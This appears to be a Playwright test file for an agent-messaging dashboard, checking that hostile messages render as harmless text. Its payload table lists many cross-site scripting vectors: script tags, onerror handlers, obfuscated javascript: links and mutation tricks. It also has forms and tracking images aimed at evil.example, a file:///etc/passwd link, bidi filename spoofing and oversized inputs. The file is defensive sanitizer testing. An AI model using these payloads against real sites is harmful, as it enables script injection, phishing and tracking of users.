"""Hostile messages appear to a reader as text; nothing runs, contacts other hosts or breaks the page.

The page fixture adds that nothing was asked of another host and that the page's policy had nothing to forbid.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request

import pytest
from playwright.async_api import Page, Route, expect

from tests.dashboard.hubs import Start, address
from tests.python.hub import Hub

RUN = "window.broken = 1"

# A sent text, and a part of it that a person must still be able to read.
HOSTILE = {
    "script": (f"<script>{RUN}</script>", f"<script>{RUN}</script>"),
    "script in a list": (f"- a\n  <script>{RUN}</script>\n- b", RUN),
    "event handler": (f'<img src=x onerror="{RUN}">', f'<img src=x onerror="{RUN}">'),
    "handler on a block": (f"<div onmouseover='{RUN}' onclick='{RUN}'>hover</div>", "hover"),
    "svg": (f'<svg onload="{RUN}"><animate onbegin="{RUN}"/></svg>', "<svg onload="),
    "mathml": (f'<math><mtext><style><img src=x onerror="{RUN}">', "<math>"),
    "iframe": (f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>', "<iframe"),
    "style": ("<style>body { display: none }</style>", "<style>"),
    "style attribute": ('<p style="position:fixed;inset:0;background:red">over all</p>', "over all"),
    "link element": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link"),
    "base and refresh": ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0">', "<base"),
    "form": ('<form action="https://evil.example"><input name="token"><button>go</button></form>', "<form"),
    "dialog": ("<dialog open>sign in again</dialog>", "<dialog open>"),
    "javascript link": (f"[press](javascript:{RUN}) javascript:{RUN}", "press"),
    "javascript link, disguised": (f"[press](JaVa&#115;cript:{RUN}) [tab](java\tscript:{RUN})", "press"),
    "data link": ("[data](data:text/html,<script>alert(1)</script>)", "data"),
    "vbscript and file links": ("[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x)", "a b c"),
    "link home": ("[sign out](/api/session) [x](#/feed) [y](//evil.example)", "sign out"),
    "link breaking out": ('[x](https://a.example/" onclick="window.broken=1)', "onclick"),
    "title breaking out": ("[x](https://a.example 't\" onmouseover=\"window.broken=1')", "x"),
    "image": ("![a picture](https://evil.example/spy.png)", "a picture"),
    "reference image": ("![spy][1]\n\n[1]: https://evil.example/spy.png", "spy"),
    "autolink": ("<javascript:window.broken=1> <https://a.example/?a=1&b=2>", "https://a.example/?a=1&b=2"),
    "code fence": ('```x" onclick="window.broken=1\n<script>\n```', "<script>"),
    "entities": ("&lt;script&gt; &#60;img src=x onerror=window.broken=1&#62; &#0; &#xD800;", "<script> <img"),
    "unfinished": ("<a href='https://x <b <!-- <![CDATA[ ]]> <?php", "<a href="),
    "mutation": (f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', "<noscript>"),
    "template": (f"<template><script>{RUN}</script></template>", "<template>"),
    "bidi override": ("invoice \u202egnp.exe\u2066 \u2067[\u202eelpmaxe.live](https://evil.example)", "invoice"),
    "zero width": ("pay\u200b\u200d\u2060\ufeff now @bo\u200bb", "pay"),
    "marks without end": ("Z" + "\u0336\u0489\u035b" * 400 + "algo", "algo"),
    "ansi": ("\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x00\x07\x08", "red"),
    "not characters": ("\ufffd\ufffe\uffff \U0010ffff left", "left"),
    "long word": ("x" * 100_000, "x" * 100),
    "long link": ("https://a.example/" + "y" * 10_000, "https://a.example/yyyy"),
    "long code": ("`" + "z" * 12_000 + "`", "zzzz"),
    "long line in a block": ("```\n" + "w" * 12_000 + "\n```", "wwww"),
    "nested quotes": ("> " * 500 + "deep", "deep"),
    "nested lists": ("- " * 400 + "deep", "deep"),
    "nested emphasis": ("*a **b " * 800 + "deep", "deep"),
    "brackets": ("[" * 5000 + "](" * 2000, "[[[["),
    "wide table": ("|a" * 300 + "\n" + "|-" * 300 + "\n" + "|1" * 300, "a"),
    "long table": ("|a|b|\n|-|-|\n" + "|x|y|\n" * 1500, "x"),
    "table of empty cells": ("|a" * 1000 + "\n" + "|-" * 1000 + "\n" + "|x\n" * 3000, "|a|a"),
    "lines": ("a\n" * 8000 + "end", "a"),
    "reply and mention markup": ("@<b>bob</b> @bob\"onclick='x'", "@<b>bob</b>"),
}

# JSON can write a surrogate alone, which is no character: refused, or text, but never a page that is broken.
SURROGATES = ["\\ud800", "a\\udfffb", "\\ud800\\ud800\\udc00"]

FORBIDDEN = (
    "script, img, svg, math, iframe, object, embed, style, link, meta, base, form, input, dialog, template, video"
)


def say_raw(hub: Hub, content: str) -> int:
    """Posts content as JSON writes it; the answer's status."""
    body = f'{{"sender":"mallory","channel":"#general","content":"{content}"}}'.encode()
    request = urllib.request.Request(address(hub, "/api/messages"), body, {"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


async def assert_harmless(page: Page) -> None:
    assert await page.evaluate("window.broken") is None
    assert await page.locator(f"#main .body :is({FORBIDDEN})").count() == 0
    attributes = await page.evaluate(
        """() => [...document.querySelectorAll("#main .body, #main .body *")]
                .flatMap((element) => [...element.attributes])
                .filter(({ name }) => !["class", "dir", "href", "title", "rel", "target", "start", "tabindex", "role",
                                        "aria-label", "type"].includes(name)).map(({ name }) => name)"""
    )
    assert attributes == []
    links = await page.locator("#main .body a").evaluate_all(
        "links => links.filter(link => link.getAttribute('href')).map(link => [link.getAttribute('href'), link.rel])"
    )
    for href, rel in links:
        assert href.startswith("#/agent/") or (
            href.startswith(("http://", "https://", "mailto:")) and rel == "noopener noreferrer nofollow"
        )
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    boxes = page.locator("main, .scroll")
    assert await boxes.evaluate_all("boxes => boxes.every(box => box.scrollWidth <= box.clientWidth)")


@pytest.mark.parametrize("width", [1440, 390])
async def test_whatever_agents_write_is_text_and_the_page_stays_whole(start_hub: Start, page: Page, width: int) -> None:
    hub = start_hub()
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    await page.set_viewport_size({"width": width, "height": 900})
    await page.goto(address(hub, "/#/feed"))
    async with hub.client("mallory") as mallory:
        for name, (text, readable) in HOSTILE.items():
            seq = (await mallory.send("#general", text)).seq
            body = page.locator(f".message[data-seq='{seq}'] .body").first
            await expect(body, name).to_contain_text(readable, use_inner_text=True)
        await assert_harmless(page)
    # The same from the log, over HTTP instead of the socket, and as hits of a search.
    await page.reload()
    await expect(page.locator(".message")).to_have_count(len(HOSTILE))
    await assert_harmless(page)
    await page.goto(address(hub, "/#/search?q=broken"))
    await expect(page.locator(".message").first).to_be_visible()
    await assert_harmless(page)


async def test_surrogates_that_are_alone_break_nothing(start_hub: Start, page: Page) -> None:
    hub = start_hub()
    await page.goto(address(hub, "/#/feed"))
    taken = [say_raw(hub, content) for content in SURROGATES]
    assert set(taken) <= {201, 400, 422}
    assert say_raw(hub, "and on it goes") == 201
    await expect(page.locator(".message").last).to_contain_text("and on it goes")
    await assert_harmless(page)


async def test_what_an_agent_says_of_itself_is_text_too(start_hub: Start, page: Page) -> None:
    hub = start_hub()
    evil = f"<img src=x onerror='{RUN}'> \u202e[x](javascript:{RUN})"
    async with hub.client("mallory", machine=evil, role=evil, project=evil, model=evil) as mallory:
        await mallory.update_status(status="<b>busy</b>", current_task=evil + "t" * 800)
        await mallory.send("#general", evil)
        await page.goto(address(hub, "/#/overview"))
        await expect(page.locator("[data-agent=mallory]")).to_contain_text("<img src=x")
        await assert_harmless(page)
        await page.goto(address(hub, "/#/agent/mallory"))
        await expect(page.get_by_role("heading", name="mallory")).to_be_visible()
        await assert_harmless(page)


async def test_text_that_runs_from_right_to_left_does_not_turn_what_stands_around_it(
    start_hub: Start, page: Page
) -> None:
    hub = start_hub()
    async with hub.client("mallory") as mallory:
        await mallory.send("#general", "\u202egnp.exe\n\nnext one")
        await mallory.send("#general", "\u05e9\u05dc\u05d5\u05dd abc")
    await page.goto(address(hub, "/#/feed"))
    await expect(page.locator(".message")).to_have_count(2)
    await expect(page.locator(".message .body p").first).to_have_text("\ufffdgnp.exe")
    directions = await page.locator(".message .body p").evaluate_all(
        "all => all.map(p => getComputedStyle(p).direction)"
    )
    assert directions == ["ltr", "ltr", "rtl"]
    isolation = await page.locator(".message .body").evaluate_all(
        "all => all.map(b => getComputedStyle(b).unicodeBidi)"
    )
    assert set(isolation) == {"isolate"}


async def test_html_that_the_hub_should_have_cleaned_runs_nothing_either(
    start_hub: Start, page: Page, forbidden: list[str]
) -> None:
    hub = start_hub()
    async with hub.client("mallory") as mallory:
        await mallory.send("#general", "hello @bob")
    evil = (
        f"<p onclick='{RUN}' id=main style='color: red'>hello @bob <a href='javascript:{RUN}'>press</a></p>"
        f"<img src=x onerror='{RUN}'><script>{RUN}</script><svg onload='{RUN}'></svg><iframe srcdoc='x'></iframe>"
        f"<code class='message'>c</code><form action=//evil.example><input></form>{'<blockquote>' * 300}deep"
    )

    async def spoil(route: Route) -> None:
        rows = await (await route.fetch()).json()
        await route.fulfill(json=[{**row, "html": evil} for row in rows])

    await page.route("**/api/messages?*", spoil)
    await page.goto(address(hub, "/#/feed"))
    body = page.locator(".message .body")
    await expect(body).to_contain_text("hello @bob press")
    await expect(body).to_contain_text("deep")
    await assert_harmless(page)
    assert await page.locator(".message").count() == 1
    # Some browsers tell of handlers and styles that they would forbid also in a document that is only read.
    forbidden.clear()


def test_the_table_is_sent_as_it_stands() -> None:
    """A text that JSON cannot carry would test nothing."""
    for text, _ in HOSTILE.values():
        assert json.loads(json.dumps(text)) == text
